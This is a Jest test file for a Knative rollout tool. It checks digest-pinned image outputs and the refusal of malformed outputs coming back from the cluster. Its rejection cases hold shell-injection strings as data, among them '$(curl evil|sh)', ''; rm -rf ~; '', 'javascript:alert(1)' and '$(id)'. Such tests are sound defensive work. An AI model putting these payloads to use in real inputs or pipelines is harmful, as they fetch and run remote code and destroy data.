// The `image` output as action.yml describes it: by digest whenever the digest is known. And
// every output of the shape it must have, or refused (issue 11): a later step may paste any
// of them into a script, and they come back from the cluster (annotations, status).

import { imageByDigest, toOutputs } from '../../../src/report/outputs.js'
import type { RolloutReport } from '../../../src/report/types.js'

const DIGEST = `sha256:${'ab'.repeat(32)}`
const OTHER = `sha256:${'cd'.repeat(32)}`

test.each([
  [
    'a tag, and the digest Knative resolved',
    'ghcr.io/acme/shop:1.4',
    DIGEST,
    `ghcr.io/acme/shop@${DIGEST}`
  ],
  ['no tag (latest)', 'docker.io/acme/shop', DIGEST, `docker.io/acme/shop@${DIGEST}`],
  ['a registry with a port', '127.0.0.1:5000/shop:pr-7', DIGEST, `127.0.0.1:5000/shop@${DIGEST}`],
  [
    'already by that digest (a build pushed it)',
    `ghcr.io/acme/shop@${DIGEST}`,
    DIGEST,
    `ghcr.io/acme/shop@${DIGEST}`
  ],
  ['tag and digest both', `ghcr.io/acme/shop:1.4@${OTHER}`, DIGEST, `ghcr.io/acme/shop@${DIGEST}`],
  ['no digest known: as given', 'ghcr.io/acme/shop:1.4', undefined, 'ghcr.io/acme/shop:1.4'],
  ['no image: empty', '', DIGEST, ''],
  ['a reference that does not parse: as given', 'Not An Image', DIGEST, 'Not An Image']
])('%s', (_name, image, digest, expected) => {
  expect(imageByDigest(image, digest)).toBe(expected)
})

test('toOutputs sets image by digest and digest alone', () => {
  const report: RolloutReport = {
    result: 'promoted',
    command: 'rollout',
    service: 'shop',
    namespace: 'default',
    candidateRevision: 'shop-abc',
    image: 'ghcr.io/acme/shop:1.4',
    digest: DIGEST,
    traffic: [],
    steps: []
  }
  expect(toOutputs(report)).toMatchObject({ image: `ghcr.io/acme/shop@${DIGEST}`, digest: DIGEST })
})

describe('each output of the shape it must have, or refused', () => {
  const base: RolloutReport = {
    result: 'promoted',
    command: 'rollout',
    service: 'shop',
    namespace: 'default',
    candidateRevision: 'shop-v2',
    currentRevision: 'shop-v1',
    url: 'http://shop.default.example.com',
    candidateUrl: 'http://candidate-shop.default.example.com',
    image: 'ghcr.io/acme/shop:1.4',
    digest: DIGEST,
    commit: 'a1b2c3d4e5f60718293a4b5c6d7e8f9012345678',
    traffic: [
      { revisionName: 'shop-v1', percent: 75, tag: 'current' },
      { revisionName: 'shop-v2', percent: 25, tag: 'candidate' }
    ],
    steps: []
  }

  test('a report of the shapes the cluster gives is written as it is', () => {
    expect(toOutputs(base)).toEqual({
      result: 'promoted',
      revision: 'shop-v2',
      'previous-revision': 'shop-v1',
      url: 'http://shop.default.example.com',
      'candidate-url': 'http://candidate-shop.default.example.com',
      image: `ghcr.io/acme/shop@${DIGEST}`,
      digest: DIGEST,
      commit: base.commit,
      traffic: base.traffic
    })
    for (const url of [
      'https://127.0.0.1:31080/',
      'http://[::1]:8080/a/b',
      'http://x.example/p_1~%20'
    ])
      expect(toOutputs({ ...base, url }).url).toBe(url)
  })

  test.each<[string, Partial<RolloutReport>, RegExp]>([
    [
      'a URL with a command substitution',
      { url: 'http://x.example/$(curl evil|sh)' },
      /output url/
    ],
    ['a URL with a quote', { url: "http://x.example/'; rm -rf ~; '" }, /output url/],
    ['a URL with a space', { candidateUrl: 'http://x.example/ a' }, /output candidate-url/],
    ['a URL that is no http(s) URL', { url: 'javascript:alert(1)' }, /output url/],
    [
      'an image that is no image reference',
      { image: 'x:1$(id)', digest: undefined },
      /output image/
    ],
    ['a digest of another shape', { image: undefined, digest: 'sha256:$(id)' }, /output digest/],
    ['a commit that is no SHA', { commit: 'main; echo hi' }, /output commit/],
    [
      'a traffic entry whose revision is no DNS label',
      { traffic: [{ revisionName: "shop'$(id)", percent: 100 }] },
      /invalid revision name/
    ],
    [
      'a traffic tag that is no DNS label',
      { traffic: [{ revisionName: 'shop-v1', percent: 100, tag: 'a b' }] },
      /output traffic/
    ],
    [
      'a traffic share that is no percent',
      { traffic: [{ revisionName: 'shop-v1', percent: 1e9 }] },
      /output traffic: 1000000000 is not a percent/
    ]
  ])('%s is refused', (_name, change, message) => {
    expect(() => toOutputs({ ...base, ...change })).toThrow(message)
  })
})
